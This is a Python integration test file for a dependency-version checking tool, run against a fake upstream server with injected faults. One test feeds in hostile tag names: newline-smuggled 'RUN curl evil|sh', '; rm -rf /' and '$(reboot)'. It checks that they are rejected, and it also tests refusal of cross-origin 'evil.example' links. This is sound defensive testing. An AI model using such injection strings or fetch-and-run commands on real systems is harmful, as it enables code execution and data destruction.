"""`run_check(resolve=True)` on the real `versions.yaml` against the fake world.

Every upstream answers from one local server (tests/world/) at its real URL, through the
project's `HttpFetcher` over a real `httpx.AsyncClient` whose transport routes real hosts to that
server. Waiting is never real: retries sleep through an injected recorder.
"""

from __future__ import annotations

import asyncio
import dataclasses
import re
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from world import (
    EVIL,
    TODAY,
    FakeWorld,
    Fault,
    FaultKind,
    HostRoutingTransport,
    Override,
    Role,
    registry_token,
)
from world.server import UpstreamServer

from release.manifest.load import load_manifest
from release.manifest.model import Archive, Checksum
from release.refresh.decide import CheckResult, Status
from release.refresh.execute import Outcome, run_check
from release.upstream.cache import HttpCache
from release.upstream.checksums import archive_sha256
from release.upstream.errors import PermanentUpstreamError
from release.upstream.http import FetchSettings, GitHubAuth, HttpFetcher
from release.upstream.interface import RejectedTag
from release.versioning import Version

pytestmark = pytest.mark.integration

REPO = Path(__file__).resolve().parents[3]
MANIFEST = load_manifest(REPO / "versions.yaml").manifest
TOKEN = "ghp_w0rldT0KENvalue0123456789abcdefABCD"

# component: (status, candidate within policy, newest stable beyond policy)
EXPECTED: dict[str, tuple[Status, str | None, str | None]] = {
    "debian": (Status.UPDATE, "20260901", None),
    "debian-snapshot": (Status.UPDATE, "20260901", None),
    "node": (Status.UPDATE, "24.21.0", "26.9.0"),
    "python": (Status.CURRENT, None, None),
    "kamailio": (Status.UPDATE, "6.1.5", None),
    "rtpengine": (Status.UPDATE, "13.5.1.26", "26.2.1.3"),
    "janus": (Status.UPDATE, "1.4.2", None),
    "coturn": (Status.UPDATE, "4.18.0", None),
    "caddy": (Status.UPDATE, "2.11.5", None),
    "caddy-arm64": (Status.UPDATE, "2.11.5", None),
    "asterisk": (Status.UPDATE, "22.11.0", "23.5.0"),
    "pjproject": (Status.CURRENT, None, "2.18"),
    "postgresql": (Status.UPDATE, "17.12", "18.7"),
    "redis": (Status.UPDATE, "7.4.11", "8.10.2"),
    "pgbouncer": (Status.UPDATE, "1.25.3", None),
    "signoz": (Status.CURRENT, None, None),
    "signoz-otel-collector": (Status.CURRENT, None, None),
    "clickhouse": (Status.CURRENT, None, "26.7.5"),
    "zookeeper": (Status.CURRENT, None, None),
    "histogram-quantile": (Status.UPDATE, "0.0.2", None),
    "histogram-quantile-arm64": (Status.UPDATE, "0.0.2", None),
    "squid": (Status.UPDATE, "7.7", None),
    "actions-checkout": (Status.UPDATE, "6.0.2", None),
    "actions-setup-python": (Status.UPDATE, "6.2.0", None),
    "actions-cache": (Status.CURRENT, None, "6.0.0"),
    "actions-upload-artifact": (Status.CURRENT, None, None),
    "actions-download-artifact": (Status.CURRENT, None, None),
    "aws-configure-aws-credentials": (Status.CURRENT, None, None),
    "docker-setup-buildx-action": (Status.CURRENT, None, None),
    "docker-setup-qemu-action": (Status.CURRENT, None, None),
    "sigstore-cosign-installer": (Status.CURRENT, None, None),
    "binfmt": (Status.CURRENT, None, None),
    "buildkit": (Status.CURRENT, None, None),
}
# The images whose digest a resolved update carries: component -> (repository, tag template).
IMAGES = {"debian": ("library/debian", "trixie-{v}-slim"), "node": ("library/node", "{v}-trixie-slim")}
# Listings read by more than one component: owner -> the others.
SHARED_LISTING = {"debian": ("debian-snapshot",), "caddy": ("caddy-arm64",)}
# Releases read by more than one component: caddy-arm64's archive is an asset of caddy's release.
SHARED_RELEASE = {"caddy": ("caddy-arm64",)}
# Components that pin nothing but their version (the Debian snapshot timestamp).
VERSION_ONLY = {"debian-snapshot"}
# The actions, whose resolved update carries the commit its tag points at: component -> repo.
ACTIONS = {c.name: c.upstream.repo for c in MANIFEST.components if c.commit is not None}


class Sleeps:
    """The fetcher's `sleep`: records what it was asked and returns at once."""

    def __init__(self) -> None:
        self.calls: list[float] = []

    async def __call__(self, seconds: float) -> None:
        self.calls.append(seconds)


@dataclass(frozen=True, slots=True, kw_only=True)
class Run:
    outcome: Outcome
    fetcher: HttpFetcher
    sleeps: list[float]

    def table(self) -> dict[str, tuple[Status, str | None, str | None]]:
        return {r.component: (r.status, r.candidate, r.newest) for r in self.outcome.results}

    def result(self, component: str) -> CheckResult:
        return next(r for r in self.outcome.results if r.component == component)


def settings(**overrides: Any) -> FetchSettings:
    values: dict[str, Any] = {"connect_timeout": 5.0, "read_timeout": 10.0, "max_attempts": 3,
                              "backoff_base": 0.01}
    values.update(overrides)
    return FetchSettings(**values)


def check(
    server: UpstreamServer,
    *,
    token: str | None = None,
    cache_dir: Path | None = None,
    resolve: bool = True,
    fetch: FetchSettings | None = None,
) -> Run:
    """`run_check` on the real manifest, every request going to `server` under its real URL."""
    sleeps = Sleeps()

    async def main() -> Run:
        transport = HostRoutingTransport(httpx.AsyncHTTPTransport(), server.url)
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            fetcher = HttpFetcher(
                client, settings=fetch or settings(), github=GitHubAuth(token=token),
                cache=HttpCache(cache_dir) if cache_dir is not None else None,
                sleep=sleeps, jitter=lambda: 0.0,
            )
            outcome = await run_check(MANIFEST, fetcher, today=TODAY, resolve=resolve)
            return Run(outcome=outcome, fetcher=fetcher, sleeps=sleeps.calls)

    return asyncio.run(main())


def world(server: UpstreamServer, overrides: Mapping[str, Override] | None = None) -> FakeWorld:
    return FakeWorld(overrides).install(server)


def assert_resolved(run: Run, fake: FakeWorld, *, skip: frozenset[str] = frozenset()) -> None:
    """Every update of a component not in `skip` carries what the world serves, exactly."""
    expected = {name for name, (status, _, _) in EXPECTED.items()
                if status is Status.UPDATE and name not in skip}
    updates = {u.component: u for u in run.outcome.updates}
    assert set(updates) - skip == expected
    for name in expected:
        update = updates[name]
        assert update.version == EXPECTED[name][1]
        if name in ACTIONS:
            component = MANIFEST.component(name)
            assert component is not None
            repo = ACTIONS[name]
            assert repo is not None
            assert (update.sha256, update.digest) == (None, None)
            assert update.commit == fake.commit_for(repo, component.versioning.tag_for(
                update.version))
            continue
        assert update.commit is None
        if name in VERSION_ONLY:
            assert (update.sha256, update.digest) == (None, None)
        elif name in IMAGES:
            repository, template = IMAGES[name]
            assert update.sha256 is None
            assert update.digest == fake.digest_for(repository, template.format(v=update.version))
        else:
            assert update.digest is None
            assert update.sha256 == fake.sha256_for(name, update.version)


def assert_others_as_expected(run: Run, fake: FakeWorld, faulty: frozenset[str]) -> None:
    table = run.table()
    assert {k: v for k, v in table.items() if k not in faulty} == {
        k: v for k, v in EXPECTED.items() if k not in faulty
    }
    assert_resolved(run, fake, skip=faulty)


def never_asked_latest(server: UpstreamServer) -> None:
    assert [r.target for r in server.requests if r.path.endswith("/releases/latest")] == []


# --- the whole world, as it is --------------------------------------------------------------------


def test_every_component_gets_its_candidate_and_resolved_checksums(
    upstream_server: UpstreamServer,
) -> None:
    fake = world(upstream_server)
    run = check(upstream_server)

    assert run.table() == EXPECTED
    assert [r.component for r in run.outcome.results] == [c.name for c in MANIFEST.components]
    assert_resolved(run, fake)
    assert all(r.rejected == () and r.reason is None for r in run.outcome.results)
    assert run.sleeps == []
    # Every request was one the world serves (no guessed URL), and none asked for "latest":
    # it points at older branches here (asterisk 20.21.0, janus v0.16.2, kamailio 6.0.8).
    assert [r.target for r in upstream_server.requests if not fake.knows(r.target)] == []
    never_asked_latest(upstream_server)
    # Both pages of Asterisk's releases and all of rtpengine's and redis's tag pages were read.
    pages = {(e.component, e.url) for e in fake.exchanges(role=Role.PAGE)}
    assert pages == {
        ("asterisk", "https://api.github.com/repositories/6678/releases?per_page=100&page=2"),
        ("rtpengine", "https://api.github.com/repositories/2234/tags?per_page=100&page=2"),
        ("redis", "https://api.github.com/repositories/7789/tags?per_page=100&page=2"),
        ("clickhouse", "https://hub.docker.com/v2/namespaces/clickhouse/repositories/"
                       "clickhouse-server/tags?page=2&page_size=100"),
    }
    # The digests came through the bearer-token flow: 401, token, 200, for each image.
    for name, (repository, _) in IMAGES.items():
        statuses = [e.status for e in fake.exchanges(component=name)
                    if e.role in (Role.MANIFEST, Role.TOKEN)]
        assert statuses == [401, 200, 200], repository


def test_the_world_serves_the_traps_the_check_avoids(upstream_server: UpstreamServer) -> None:
    """The traps are really there: `latest` is an older branch, `-current` names another file."""
    world(upstream_server)

    async def main() -> dict[str, Any]:
        transport = HostRoutingTransport(httpx.AsyncHTTPTransport(), upstream_server.url)
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            latest = {
                repo: (await client.get(f"https://api.github.com/repos/{repo}/releases/latest"))
                .json()["tag_name"]
                for repo in ("asterisk/asterisk", "meetecho/janus-gateway", "sipwise/rtpengine")
            }
            current = await client.get("https://downloads.asterisk.org/pub/telephony/asterisk/"
                                       "asterisk-22-current.sha256")
            single = await client.get(
                "https://registry-1.docker.io/v2/library/debian/manifests/trixie-20260901-slim",
                headers={"Authorization": f"Bearer {registry_token('library/debian')}",
                         "Accept": "application/vnd.oci.image.manifest.v1+json"},
            )
            return {"latest": latest, "current": current.text.split()[1],
                    "single": single.headers["docker-content-digest"]}

    seen = asyncio.run(main())
    assert seen["latest"] == {"asterisk/asterisk": "20.21.0",
                              "meetecho/janus-gateway": "v0.16.2",
                              "sipwise/rtpengine": "mr12.5.1.55"}
    assert seen["current"] == "asterisk-22.11.0.tar.gz"
    # Without the index media types in Accept a registry answers one platform's manifest.
    assert seen["single"] != FakeWorld().digest_for("library/debian", "trixie-20260901-slim")


def test_action_tags_point_at_commits_as_github_answers_them(
    upstream_server: UpstreamServer,
) -> None:
    """`/commits/{tag}`: the bare SHA for `application/vnd.github.sha`, JSON otherwise.

    A pinned tag answers the commit `versions.yaml` pins, a moving major tag (`v6`) the commit
    of the newest release of that major, and a draft has no tag (so no commit) at all.
    """
    fake = world(upstream_server)
    api = "https://api.github.com/repos"
    sha = {"Accept": "application/vnd.github.sha"}

    async def main() -> dict[str, Any]:
        transport = HostRoutingTransport(httpx.AsyncHTTPTransport(), upstream_server.url)
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            pinned = {}
            for name, repo in ACTIONS.items():
                component = MANIFEST.component(name)
                assert component is not None
                tag = component.versioning.tag_for(component.version)
                pinned[name] = (await client.get(f"{api}/{repo}/commits/{tag}", headers=sha)).text
            bare = await client.get(f"{api}/actions/checkout/commits/v6.0.2", headers=sha)
            moving = await client.get(f"{api}/actions/checkout/commits/v6", headers=sha)
            full = await client.get(f"{api}/actions/checkout/commits/v6.0.2")
            draft = await client.get(f"{api}/actions/upload-artifact/commits/v6.0.1", headers=sha)
            flagged = await client.get(f"{api}/aws-actions/configure-aws-credentials/releases/"
                                       "tags/v5.2.0")
            return {"pinned": pinned, "bare": (bare.headers["content-type"], bare.text),
                    "moving": moving.text, "full": full.json()["sha"], "draft": draft.status_code,
                    "flagged": (flagged.json()["prerelease"], flagged.json()["tag_name"])}

    seen = asyncio.run(main())
    assert seen["pinned"] == {
        name: component.commit for name in ACTIONS
        if (component := MANIFEST.component(name)) is not None
    }
    new = fake.commit_for("actions/checkout", "v6.0.2")
    assert seen["bare"] == ("application/vnd.github.sha; charset=utf-8", new)
    assert seen["moving"] == seen["full"] == new
    assert new != fake.commit_for("actions/checkout", "v6.0.1")
    assert seen["draft"] == 404
    # A stable-looking tag that GitHub flags as a pre-release: the check passed it over.
    assert seen["flagged"] == (True, "v5.2.0")


def test_github_token_goes_to_api_github_com_only(upstream_server: UpstreamServer) -> None:
    fake = world(upstream_server)
    run = check(upstream_server, token=TOKEN)

    # Authenticated callers also see drafts (asterisk 22.12.0, caddy v2.11.6,
    # upload-artifact v6.0.1): still skipped.
    assert run.table() == EXPECTED
    assert_resolved(run, fake)
    api = fake.exchanges(host="api.github.com")
    assert api
    assert {e.headers.get("authorization") for e in api} == {f"Bearer {TOKEN}"}
    others = [e for e in fake.exchanges() if e.host != "api.github.com"]
    assert {e.host for e in others} >= {"github.com", "codeload.github.com", "hub.docker.com",
                                        "registry-1.docker.io", "auth.docker.io",
                                        "raw.githubusercontent.com"}
    assert not [e.url for e in others if any(TOKEN in v for v in e.headers.values())]
    # The registry got its own bearer token, and only the registry did.
    registry = {e.headers.get("authorization") for e in others
                if e.host == "registry-1.docker.io"}
    assert registry == {None, f"Bearer {registry_token('library/debian')}",
                        f"Bearer {registry_token('library/node')}"}
    assert not [e.url for e in others
                if e.host != "registry-1.docker.io" and "authorization" in e.headers]


def test_second_run_with_a_cache_only_revalidates_the_listings(
    upstream_server: UpstreamServer, tmp_path: Path,
) -> None:
    fake = world(upstream_server)
    first = check(upstream_server, cache_dir=tmp_path / "cache")
    mark = len(fake.log)
    second = check(upstream_server, cache_dir=tmp_path / "cache")

    assert second.table() == first.table() == EXPECTED
    assert second.outcome.updates == first.outcome.updates
    again = fake.log[mark:]
    listings = [e for e in again if e.role in (Role.LISTING, Role.PAGE)]
    assert len(listings) == len([e for e in fake.log[:mark] if e.role in (Role.LISTING, Role.PAGE)])
    assert {e.status for e in listings} == {304}
    assert all("if-none-match" in e.headers for e in listings)
    # Checksum files revalidate too; archives are hashed afresh, the token flow starts over.
    assert {e.status for e in again if e.role in (Role.CHECKSUM, Role.COMMIT)} == {304}
    assert second.fetcher.stats.revalidated == len([e for e in again if e.status == 304])
    assert first.fetcher.stats.revalidated == 0


# --- faults: the faulty component is an error, every other one is checked as usual ---------------


@dataclass(frozen=True, slots=True)
class Case:
    component: str
    fault: Fault
    reason: str  # a regular expression the error's reason must match


CASES = [
    Case("debian", Fault(kind=FaultKind.RATE_LIMITED, times=99),
         r"^GET https://hub\.docker\.com/v2/namespaces/library/repositories/debian/tags\?"
         r"page_size=100&name=trixie-: HTTP 429 Too Many Requests; gave up after 3 attempts$"),
    Case("node", Fault(kind=FaultKind.UNAVAILABLE, times=99),
         r"^GET https://nodejs\.org/dist/index\.json: HTTP 503 Service Unavailable; "
         r"gave up after 3 attempts$"),
    Case("kamailio", Fault(kind=FaultKind.HANG),
         r"^GET https://api\.github\.com/repos/kamailio/kamailio/tags\?per_page=100: timed out"),
    Case("asterisk", Fault(kind=FaultKind.MALFORMED_JSON),
         r"releases\?per_page=100: expected JSON, got application/json"),
    Case("caddy", Fault(kind=FaultKind.HTML),
         r"releases\?per_page=100: expected JSON, got text/html.* starting with '<!DOCTYPE html>"),
    Case("coturn", Fault(kind=FaultKind.NESTED_JSON),
         r"^https://api\.github\.com/repos/coturn/coturn/releases\?per_page=100: JSON nested too "
         r"deeply to read \(an answer no API gives\)$"),
    Case("clickhouse", Fault(kind=FaultKind.NESTED_JSON),
         r"repositories/clickhouse-server/tags\?page_size=100.*: JSON nested too deeply"),
    Case("janus", Fault(kind=FaultKind.GITHUB_RATE_LIMIT),
         r"tags\?per_page=100: HTTP 403 Forbidden: rate limit exhausted; it resets at "
         r"2100-01-01 00:00:01 UTC, in \d+ s, longer than the 60 s this tool waits$"),
    Case("redis", Fault(kind=FaultKind.MALFORMED_JSON, role=Role.PAGE),
         r"^https://api\.github\.com/repositories/7789/tags\?per_page=100&page=2: "
         r"expected JSON"),
    Case("rtpengine", Fault(kind=FaultKind.CROSS_ORIGIN_NEXT),
         r"refused cross-origin pagination link https://api\.github\.com\.evil\.example/"),
    Case("clickhouse", Fault(kind=FaultKind.CROSS_ORIGIN_NEXT),
         r"refused cross-origin pagination link https://hub\.docker\.com\.evil\.example/"),
    Case("postgresql", Fault(kind=FaultKind.HTML),
         r"versions\.json: expected JSON, got text/html"),
    Case("asterisk", Fault(kind=FaultKind.WRONG_FILE, role=Role.CHECKSUM),
         r"^22\.11\.0 found, but its checksum could not be fetched: .*asterisk-22\.11\.0\.sha256: "
         r"the checksum is for 'asterisk-22\.11\.0-1\.tar\.gz', not for "
         r"'asterisk-22\.11\.0\.tar\.gz'$"),
    Case("postgresql", Fault(kind=FaultKind.WRONG_FILE, role=Role.CHECKSUM),
         r"the checksum is for 'postgresql-17\.12-1\.tar\.bz2', not for "
         r"'postgresql-17\.12\.tar\.bz2'$"),
    Case("pgbouncer", Fault(kind=FaultKind.WRONG_FILE, role=Role.CHECKSUM),
         r"the checksum is for 'pgbouncer-1\.25\.3-1\.tar\.gz'"),
    Case("redis", Fault(kind=FaultKind.WRONG_FILE, role=Role.CHECKSUM),
         r"redis-hashes/master/README: no sha256 line for 'redis-7\.4\.11\.tar\.gz'"),
    Case("squid", Fault(kind=FaultKind.WRONG_FILE, role=Role.RELEASE),
         r"release SQUID_7_7 has no asset named 'squid-7\.7\.tar\.xz' \(assets: "
         r"squid-7\.7-1\.tar\.gz, squid-7\.7-1\.tar\.xz, squid-7\.7-1\.tar\.xz\.asc\)$"),
    Case("caddy", Fault(kind=FaultKind.UNAVAILABLE, role=Role.RELEASE, times=99),
         r"^2\.11\.5 found, but its checksum could not be fetched: .*releases/tags/v2\.11\.5: "
         r"HTTP 503"),
    Case("coturn", Fault(kind=FaultKind.HANG, role=Role.ARCHIVE),
         r"^4\.18\.0 found, but its checksum could not be fetched: GET https://github\.com/"
         r"coturn/coturn/archive/refs/tags/4\.18\.0\.tar\.gz: timed out, no data for 2 s; "
         r"gave up after 2 attempts$"),
    Case("debian", Fault(kind=FaultKind.UNAVAILABLE, role=Role.MANIFEST, times=99),
         r"^20260901 found, but its image digest could not be fetched: HEAD https://registry-1\."
         r"docker\.io/v2/library/debian/manifests/trixie-20260901-slim: HTTP 503"),
    Case("node", Fault(kind=FaultKind.HTML, role=Role.TOKEN),
         r"^24\.21\.0 found, but its image digest could not be fetched: https://auth\.docker\.io/"
         r"token\?.*: expected JSON, got text/html"),
    Case("actions-cache", Fault(kind=FaultKind.MALFORMED_JSON),
         r"^https://api\.github\.com/repos/actions/cache/releases\?per_page=100: expected JSON"),
    Case("actions-checkout", Fault(kind=FaultKind.UNAVAILABLE, role=Role.COMMIT, times=99),
         r"^6\.0\.2 found, but its commit could not be fetched: GET https://api\.github\.com/"
         r"repos/actions/checkout/commits/v6\.0\.2: HTTP 503 Service Unavailable; "
         r"gave up after 3 attempts$"),
    Case("actions-setup-python", Fault(kind=FaultKind.HTML, role=Role.COMMIT),
         r"^6\.2\.0 found, but its commit could not be fetched: https://api\.github\.com/repos/"
         r"actions/setup-python/commits/v6\.2\.0: expected a 40-hex commit SHA, got "
         r"'<!DOCTYPE html>"),
]


@pytest.mark.parametrize(
    "case", CASES, ids=[f"{c.component}-{c.fault.role}-{c.fault.kind}" for c in CASES]
)
def test_a_faulty_upstream_fails_only_its_component(
    upstream_server: UpstreamServer, case: Case,
) -> None:
    fake = world(upstream_server, {case.component: Override(faults=(case.fault,))})
    hangs = case.fault.kind is FaultKind.HANG
    run = check(upstream_server,
                fetch=settings(read_timeout=2.0, max_attempts=2) if hangs else None)

    # A component that reads another's listing fails with it (debian-snapshot reads Debian's).
    shared = SHARED_LISTING.get(case.component, ()) if case.fault.role in (
        Role.LISTING, Role.PAGE) else ()
    if case.fault.role is Role.RELEASE:
        shared = SHARED_RELEASE.get(case.component, ())
    faulty = frozenset({case.component, *shared})
    for name in sorted(faulty):
        failed = run.result(name)
        assert failed.status is Status.ERROR
        assert failed.candidate is None
        assert failed.reason is not None
        assert re.search(case.reason, failed.reason), failed.reason
    assert_others_as_expected(run, fake, faulty)
    never_asked_latest(upstream_server)
    # A refused link is never followed, to the other origin or anywhere.
    assert not [r.target for r in upstream_server.requests if EVIL in r.target]


def test_transient_faults_are_retried_as_the_server_asks(upstream_server: UpstreamServer) -> None:
    fake = world(upstream_server, {
        "redis": Override(faults=(Fault(kind=FaultKind.RATE_LIMITED, retry_after=7),)),
        "postgresql": Override(faults=(Fault(kind=FaultKind.UNAVAILABLE, times=2),)),
        "debian": Override(faults=(Fault(kind=FaultKind.UNAVAILABLE, role=Role.MANIFEST),)),
    })
    run = check(upstream_server)

    assert run.table() == EXPECTED
    assert_resolved(run, fake)
    assert [e.status for e in fake.exchanges(component="redis", role=Role.LISTING)] == [429, 200]
    assert [e.status for e in fake.exchanges(component="postgresql", role=Role.LISTING)] == [
        503, 503, 200]
    assert [e.status for e in fake.exchanges(component="debian", role=Role.MANIFEST)] == [
        503, 401, 200]
    # Retry-After is honoured as asked; the others back off (base 0.01 s, no jitter).
    assert sorted(run.sleeps) == [0.005, 0.005, 0.01, 7.0]
    assert run.fetcher.stats.retries == 4


def test_malicious_tags_are_rejected_and_reported(upstream_server: UpstreamServer) -> None:
    fake = world(upstream_server, {
        "redis": Override(extra_tags=("7.4.12\nRUN curl evil|sh",)),
        "asterisk": Override(extra_tags=('22.11.0"; rm -rf /',)),
        "debian": Override(extra_tags=("trixie-20261001-slim$(reboot)",)),
        "node": Override(extra_tags=("v24.22.0\nRUN curl evil|sh",)),
    })
    run = check(upstream_server)

    assert run.table() == EXPECTED
    assert_resolved(run, fake)
    rejected = {r.component: r.rejected for r in run.outcome.results if r.rejected}
    assert rejected == {
        "redis": (RejectedTag(tag="7.4.12\\nRUN curl evil|sh",
                              reason="tag '7.4.12\\nRUN curl evil|sh' is not a well-formed tag "
                              "name"),),
        "asterisk": (RejectedTag(tag='22.11.0"; rm -rf /',
                                 reason="tag '22.11.0\"; rm -rf /' is not a well-formed tag "
                                 "name"),),
        "debian": (RejectedTag(tag="trixie-20261001-slim$(reboot)",
                               reason="tag 'trixie-20261001-slim$(reboot)' is not a well-formed "
                               "tag name"),),
        "debian-snapshot": (RejectedTag(tag="trixie-20261001-slim$(reboot)",
                                        reason="tag 'trixie-20261001-slim$(reboot)' is not a well-formed "
                                        "tag name"),),
        "node": (RejectedTag(tag="v24.22.0\\nRUN curl evil|sh",
                             reason="tag 'v24.22.0\\nRUN curl evil|sh' is not a well-formed tag "
                             "name"),),
    }
    assert all("\n" not in (u.version + (u.sha256 or "")) for u in run.outcome.updates)


def test_a_failing_group_member_holds_the_group(upstream_server: UpstreamServer) -> None:
    world(upstream_server, {
        "signoz": Override(extra_tags=("v0.140.0",)),
        "clickhouse": Override(faults=(Fault(kind=FaultKind.UNAVAILABLE, times=99),)),
    })
    run = check(upstream_server, resolve=False)

    signoz = run.result("signoz")
    assert (signoz.status, signoz.candidate) == (Status.HELD, "0.140.0")
    assert signoz.reason is not None
    assert signoz.reason.startswith("group signoz: clickhouse is error (GET https://hub.docker.com/")
    assert run.result("clickhouse").status is Status.ERROR
    others = {k: v for k, v in run.table().items() if k not in {"signoz", "clickhouse"}}
    assert others == {k: v for k, v in EXPECTED.items() if k not in {"signoz", "clickhouse"}}
    assert run.outcome.updates == ()


def test_a_current_sums_file_is_refused(upstream_server: UpstreamServer) -> None:
    """Asterisk's `asterisk-22-current.sha256` names the versioned tarball, not `-current`."""
    world(upstream_server)
    asterisk = MANIFEST.component("asterisk")
    assert asterisk is not None
    assert asterisk.archive is not None
    top = "https://downloads.asterisk.org/pub/telephony/asterisk"
    current = dataclasses.replace(asterisk, archive=Archive(
        url=f"{top}/asterisk-22-current.tar.gz", sha256=asterisk.archive.sha256,
        checksum=Checksum(kind=asterisk.archive.checksum.kind,
                          url=f"{top}/asterisk-22-current.sha256"),
    ))

    async def main() -> str:
        transport = HostRoutingTransport(httpx.AsyncHTTPTransport(), upstream_server.url)
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            fetcher = HttpFetcher(client, settings=settings())
            return await archive_sha256(current, Version("22.11.0"), fetcher, max_bytes=1 << 20)

    with pytest.raises(PermanentUpstreamError) as caught:
        asyncio.run(main())
    assert caught.value.message == (
        f"{top}/asterisk-22-current.sha256: the checksum is for 'asterisk-22.11.0.tar.gz', "
        "not for 'asterisk-22-current.tar.gz'"
    )


# --- the routing transport ------------------------------------------------------------------------


@pytest.mark.parametrize(("real", "local"), [
    ("https://api.github.com/repos/a/b/tags?per_page=100&page=2",
     "http://127.0.0.1:8080/api.github.com/repos/a/b/tags?per_page=100&page=2"),
    ("http://www.squid-cache.org/Versions/v7/", "http://127.0.0.1:8080/www.squid-cache.org/Versions/v7/"),
    ("https://registry.example:5000/v2/", "http://127.0.0.1:8080/registry.example:5000/v2/"),
    ("https://auth.docker.io/token?scope=repository%3Alibrary%2Fdebian%3Apull",
     "http://127.0.0.1:8080/auth.docker.io/token?scope=repository%3Alibrary%2Fdebian%3Apull"),
    ("http://127.0.0.1:8080/already/local", "http://127.0.0.1:8080/already/local"),
])
def test_host_routing_maps_real_urls_under_a_host_prefix(real: str, local: str) -> None:
    transport = HostRoutingTransport(httpx.AsyncHTTPTransport(), "http://127.0.0.1:8080/")
    assert str(transport.route(httpx.URL(real))) == local


def test_world_refuses_a_fault_it_cannot_inject() -> None:
    with pytest.raises(ValueError, match="no component 'mysql'"):
        FakeWorld({"mysql": Override()})
    with pytest.raises(ValueError, match="wrong-file applies to"):
        FakeWorld({"redis": Override(faults=(Fault(kind=FaultKind.WRONG_FILE),))})
